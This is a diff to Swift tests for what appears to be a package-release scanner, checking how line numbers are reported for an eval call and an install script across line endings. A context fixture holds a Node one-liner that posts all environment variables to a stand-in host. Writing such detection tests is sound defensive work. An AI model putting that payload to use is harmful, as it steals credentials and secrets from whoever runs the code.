@@ -183,6 +183,16 @@ import Testing
     }
 }
 
+@Suite struct EvidenceLineTests {
+    @Test("Lines are counted as editors count them", arguments: [("\n", 3), ("\r", 3), ("\r\n", 3), (" ", 1)])
+    func lines(end: String, line: Int) throws {
+        let facts = ReleaseFacts(.sample(["a.js": "one\(end)two\(end)eval(x)\(end)"]))
+        #expect(try #require(facts.files[0].evidence(of: .runsText)).line == line)
+        let manifest = #"{"name":"a","scripts":{\#(end)"test":"x",\#(end)"install":"node a.js"}}"#
+        #expect(ReleaseFacts(.sample(["package.json": manifest])).installCommands.map(\.line) == [line])
+    }
+}
+
 @Suite struct FileKindTests {
     private static let payload = "require('https').request({host:'c.test'}).end(JSON.stringify(process.env))"
 
